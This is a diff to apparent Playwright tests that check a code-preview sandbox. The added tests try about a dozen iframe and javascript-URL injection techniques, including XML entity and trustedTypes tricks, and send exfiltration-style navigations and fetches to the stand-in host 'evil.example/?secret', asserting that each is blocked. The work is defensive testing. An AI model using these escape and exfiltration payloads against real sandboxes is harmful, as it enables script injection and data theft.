@@ -18,6 +18,28 @@ const tries = {
   caches: () => caches.open('x'),
   workers: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = () => no(new Error('blocked')); }),
   'a frame within': () => new Promise((yes, no) => { addEventListener('message', (e) => e.data.within && yes(e.data.within)); const f = document.createElement('iframe'); f.srcdoc = '<script>fetch("/api/auth/user").then((r) => parent.postMessage({ within: r.status }, "*"))</scr' + 'ipt>'; document.body.append(f); }),
+  'calls in a frame within': () => new Promise((yes) => {
+    addEventListener('message', (e) => e.data.rtc && yes(e.data.rtc));
+    const code = 'parent.postMessage({ rtc: typeof RTCPeerConnection }, "*")';
+    const page = '<script>' + code + '</scr' + 'ipt>';
+    const ways = [
+      () => { const f = document.createElement('iframe'); f.srcdoc = page; document.body.append(f); },
+      () => { const f = document.createElement('iframe'); f.setAttribute('srcdoc', page); document.body.append(f); },
+      () => { const f = document.createElement('iframe'); f.src = 'javascript:' + code; document.body.append(f); },
+      () => { const f = document.createElement('iframe'); f.name = 'led'; document.body.append(f); const a = document.createElement('a'); a.target = 'led'; a.href = 'javascript:' + code; document.body.append(a); a.click(); },
+      () => { const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<IFRAME srcdoc="' + page.replaceAll('"', '&quot;') + '"></IFRAME>'; },
+      () => document.body.insertAdjacentHTML('beforeend', '<iframe src=\\'javascript:' + code + '\\'></iframe>'),
+      () => document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="' + page.replaceAll('"', '&quot;') + '"></iframe>')),
+      () => document.body.append(document.importNode(new DOMParser().parseFromString('<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" srcdoc="' + page.replaceAll('"', '&quot;').replaceAll('<', '&lt;') + '"/>', 'application/xml').documentElement, true)),
+      () => document.body.append(document.importNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY e "&#60;b:iframe xmlns:b=\\'http://www.w3.org/1999/xhtml\\' src=\\'javascript:' + code.replaceAll('"', '&quot;') + '\\'/>">]><a>&e;</a>', 'application/xml').documentElement, true)),
+      () => { const a = document.createAttribute('srcdoc'); a.value = page; const f = document.createElement('iframe'); f.setAttributeNode(a); document.body.append(f); },
+      () => { const t = document.createElement('template'); t.innerHTML = '<iframe srcdoc="' + page.replaceAll('"', '&quot;') + '"></iframe>'; document.body.append(t.content.cloneNode(true)); },
+      () => { const f = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); f.setAttributeNS(null, 'srcdoc', page); document.body.append(f); },
+      () => { const o = document.createElement('object'); o.data = 'javascript:' + code; document.body.append(o); },
+      () => trustedTypes.createPolicy('own', { createHTML: (text) => text }),
+    ];
+    for (const way of ways) try { way(); } catch {}
+  }),
   'service worker': () => navigator.serviceWorker.register('/x.js'),
   window: () => { const opened = open('https://example.com/'); if (!opened) throw new Error('null'); return 'opened'; },
   eval: () => eval('1 + 1'),
@@ -28,6 +50,7 @@ const tries = {
   picture: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('blocked')); i.src = '/favicon.ico?' + Math.random(); }),
   script: () => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = () => no(new Error('blocked')); s.src = '/assets/x.js'; document.head.append(s); }),
   peers: () => new RTCPeerConnection().createOffer(),
+  'peers by another name': () => new webkitRTCPeerConnection().createOffer(),
 };
 for (const [name, attempt] of Object.entries(tries)) {
   const box = document.createElement('li');
@@ -54,7 +77,7 @@ test('code in the preview reaches nothing: no cookies, parent, storage, network,
     }),
   );
   const items = preview(page).locator('li');
-  await expect.poll(async () => (await items.allTextContents()).filter(Boolean).length).toBeGreaterThan(17);
+  await expect.poll(async () => (await items.allTextContents()).filter(Boolean).length).toBeGreaterThan(19);
   const got = await items.evaluateAll((all) =>
     all
       .filter((one) => one.textContent?.startsWith('GOT'))
@@ -69,6 +92,48 @@ test('code in the preview reaches nothing: no cookies, parent, storage, network,
     null,
     false,
   ]);
+  await opened.close();
+});
+
+test('a preview that leads its frame elsewhere is ended, and gives itself no hosts to call', async () => {
+  const member = await makeMember(app, 'coder');
+  const opened = await openAs(member, { width: 1440 });
+  const { page } = opened;
+  await page.route('https://evil.example/**', (route) => route.fulfill({ body: 'reached' }));
+  const answered: string[] = [];
+  page.on('response', (response) => answered.push(response.url()));
+  for (const code of [
+    `if (!location.search) location = '/sandbox/preview?hosts=evil.example';`,
+    `location = '/sandbox/preview?grant=evil.example~9999999999999~x';`,
+    `location.reload();`,
+    `location = 'https://evil.example/?secret';`,
+    `document.head.innerHTML = '<meta http-equiv="refresh" content="0;url=https://evil.example/?secret">';`,
+  ]) {
+    await openProject(page, member, projectOf({ 'main.js': `${code}\nfetch('https://evil.example/x');` }));
+    await page
+      .getByText(/tried to open another page|stopped responding/)
+      .first()
+      .waitFor();
+  }
+  // The policy of the page around it blocks each before it is sent.
+  expect(answered.filter((url) => url.startsWith('https://evil.example'))).toEqual([]);
+
+  // Hosts that somebody allows are called.
+  await page.route('https://api.example.com/**', (route) =>
+    route.fulfill({ body: 'from outside', headers: { 'access-control-allow-origin': '*' } }),
+  );
+  await openProject(
+    page,
+    member,
+    projectOf({
+      'main.js': `fetch('https://api.example.com/a').then((r) => r.text(), () => 'blocked').then((text) => document.body.textContent = text);`,
+    }),
+  );
+  await preview(page).getByText('blocked').waitFor();
+  await page.getByRole('button', { name: 'Network access' }).click();
+  await page.getByRole('textbox', { name: 'Allowed hosts' }).fill('api.example.com');
+  await page.getByRole('button', { name: 'Save', exact: true }).click();
+  await preview(page).getByText('from outside').waitFor();
   await opened.close();
 });
 
